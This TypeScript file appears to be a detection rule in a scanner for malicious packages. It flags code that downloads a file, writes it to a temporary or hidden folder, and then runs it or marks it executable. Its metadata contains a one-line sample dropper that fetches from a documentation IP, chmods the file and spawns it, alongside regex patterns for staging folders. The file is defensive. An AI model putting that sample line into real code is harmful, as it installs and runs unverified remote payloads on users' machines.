import type { JsRule } from '../engine.js';
import type { Node } from '../parse.js';
import {
  calleeName,
  commandOf,
  FILE_WRITES,
  isShadyLocation,
  js,
  NETWORK_CALLS,
  PROCESS_EXEC,
} from './helpers.js';

const CHMOD = new Set(['fs.chmod', 'fs.chmodSync', 'fs/promises.chmod', 'fs.promises.chmod']);
const HASHING = new Set(['crypto.createHash', 'crypto.createVerify', 'crypto.verify']);
/** Code that names the temporary or per-user application folder: `os.tmpdir()`, `%TEMP%`, `%APPDATA%`. */
const TEMP_EXPR = /\btmpdir\s*\(\s*\)|\bprocess\.env\.(?:TEMP|TMP|TMPDIR|APPDATA|LOCALAPPDATA)\b/;
/** Files larger than this are bundles (as `weighByContext` counts them). */
const BUNDLE_CHARS = 200 * 1024;
const GIT_REPOSITORY_URL = /^(?:git\+)?(?:https?|git|ssh):\/\/[^\s]+\.git(?:#.*)?$/i;
/** Where droppers stage payloads: temporary directories and hidden folders. */
const STAGING_DIR =
  /^(?:\/tmp\/|\/var\/tmp\/|\/dev\/shm\/)|[/\\](?:tmp|temp)[/\\]|%TEMP%|\$TMPDIR|AppData[/\\]+(?:Local[/\\]+Temp|Roaming)|(?:^|[/\\])\.(?!\.)[^/\\]+[/\\][^/\\]+$/i;

/**
 * Flags a file that downloads, writes a file and then executes or marks it executable. Binary
 * installers do the same from their release host, so the rule is medium unless the download
 * comes from a raw IP, plain HTTP or an exfiltration-grade host, or nothing verifies it.
 */
export const downloadExecute: JsRule = {
  meta: {
    ...js,
    id: 'JS-009',
    name: 'download-and-execute',
    category: 'dropper',
    severity: 'high',
    confidence: 'medium',
    description:
      'One file fetches data from the network, writes a file and runs a process or makes the file executable. High when the source is a raw IP, plain HTTP or an exfiltration-grade host, or when the program it runs (or chmods) is the file it wrote to a temporary or hidden folder (/tmp, os.tmpdir(), %TEMP%, %APPDATA%, a dot-folder).',
    rationale:
      'This is the shape of a dropper: the package itself is small and innocent-looking, the payload arrives at install time and is started immediately.',
    falsePositives:
      'Binary installers of legitimate CLIs (esbuild-style postinstall downloaders) do the same; they download over HTTPS from their own release host into the package (low), often verify a checksum, and unpack archives from temp folders with tar rather than running them. Self-updaters that run their new binary from a dot-folder look like a staged dropper.',
    example:
      "http.get('http://192.0.2.1/p', r => r.pipe(fs.createWriteStream(p)).on('finish', () => { fs.chmodSync(p, 0o755); spawn(p) }))",
    references: ['https://attack.mitre.org/techniques/T1105/'],
  },
  create(ctx) {
    let net: Node | undefined;
    let write: Node | undefined;
    let exec: Node | undefined;
    let chmod: Node | undefined;
    let hashing = false;
    const shady: string[] = [];
    const noteTarget = (value: string | undefined) => {
      // `url: 'http://github.com/x/y.git'` is a bundled package.json's repository field, not a download
      if (value && !GIT_REPOSITORY_URL.test(value) && isShadyLocation(value)) shady.push(value);
    };
    /** Files written to a temporary or hidden place, and the programs run (or made executable). */
    const written: string[] = [];
    const launched: Array<{ path: string; node: Node }> = [];
    const check = (node: Node) => {
      const name = calleeName(ctx, node);
      if (!name) return;
      if (NETWORK_CALLS.has(name)) {
        net ??= node;
        noteTarget(ctx.evaluateString(node.arguments?.[0]));
      } else if (FILE_WRITES.has(name)) {
        write ??= node;
        const target = pathOf(node.arguments?.[0]);
        if (target && STAGING_DIR.test(target) && written.length < 20) written.push(target);
      } else if (PROCESS_EXEC.has(name)) {
        exec ??= node;
        const program =
          commandOf(ctx, name, node)
            ?.trim()
            .split(/\s+/)[0]
            ?.replace(/^['"]|['"]$/g, '') ?? pathOf(node.arguments?.[0]);
        if (program && launched.length < 20) launched.push({ path: program, node });
      } else if (CHMOD.has(name)) {
        chmod ??= node;
        const target = pathOf(node.arguments?.[0]);
        if (target && launched.length < 20) launched.push({ path: target, node });
      } else if (HASHING.has(name)) hashing = true;
    };
    /** A path as written, with `os.tmpdir()` read as the temporary directory it is. */
    const pathOf = (n: Node | undefined): string | undefined => {
      if (!n) return undefined;
      // `const dest = path.join(os.tmpdir(), 'x')`: the expression the name stands for
      const b = n.type === 'Identifier' ? ctx.lookup(n.name) : undefined;
      const expr: Node = b?.init && b.reassigned === 0 && b.kind !== 'param' ? b.init : n;
      const folded = ctx.taint.pathString(n) ?? ctx.taint.pathString(expr);
      const text = ctx.source.slice(expr.start, Math.min(expr.end, expr.start + 300));
      if (TEMP_EXPR.test(text)) return `/tmp/${(folded ?? '').split(/[/\\]/).pop() ?? ''}`;
      return folded;
    };
    const base = (p: string) => p.split(/[/\\]/).pop() ?? '';
    /** A file this code wrote to a staging place and then runs or makes executable. */
    const runsWhatItWrote = () =>
      launched.find((l) => {
        const name = base(l.path);
        return name.length > 0 && name !== '*' && written.some((w) => base(w) === name);
      });
    return {
      CallExpression: check,
      NewExpression: check,
      Property(node: Node) {
        // In a bundle, an address in some object literal (a DNS server, a bundled package.json's
        // repository) belongs to another module than the download, so only small files use them.
        if (ctx.source.length > BUNDLE_CHARS) return;
        const key = node.key?.name ?? node.key?.value;
        if (key === 'host' || key === 'hostname' || key === 'url' || key === 'uri')
          noteTarget(ctx.evaluateString(node.value));
      },
      'Program:done'() {
        if (!net || !write || !(exec || chmod)) return;
        ctx.facts.capabilities.add('dropper');
        // An installer unpacks a binary into the package; a dropper runs what it just wrote to
        // /tmp, %TEMP% or a hidden folder.
        const staged = runsWhatItWrote();
        const strong = shady.length > 0 || staged !== undefined;
        ctx.report({
          node: (exec ?? chmod)!,
          message: `Downloads (${calleeName(ctx, net)}${shady.length > 0 ? ` from ${shady[0]}` : ''}), writes a file (${calleeName(ctx, write)}) and ${exec ? `runs a process (${calleeName(ctx, exec)})` : 'makes it executable (chmod)'}${staged ? `; it runs the file it wrote to ${staged.path}` : ''}.`,
          // Without a raw-IP/plain-HTTP/exfil-grade source this is the binary-installer pattern
          // (esbuild, chromedriver): a capability worth noting, not a verdict.
          severity: strong ? 'high' : 'low',
          confidence: strong ? 'high' : hashing ? 'low' : 'medium',
          evidence: {
            network: calleeName(ctx, net),
            write: calleeName(ctx, write),
            exec: exec && calleeName(ctx, exec),
            chmod: !!chmod,
            suspiciousSource: shady[0],
            runsStagedFile: staged?.path,
            verifiesChecksum: hashing,
          },
          iocs: strong ? [shady[0]!] : undefined,
        });
      },
    };
  },
};
